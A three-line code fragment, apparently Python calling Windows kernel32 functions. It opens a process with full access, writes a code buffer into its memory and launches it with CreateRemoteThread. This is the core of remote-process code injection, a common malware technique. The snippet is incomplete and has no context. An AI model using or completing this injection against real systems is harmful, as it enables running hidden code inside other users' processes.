h = k.OpenProcess(0x1F0FFF, False, pid)
k.WriteProcessMemory(h, addr, code, len(code), None)
k.CreateRemoteThread(h, None, 0, addr, None, 0, None)
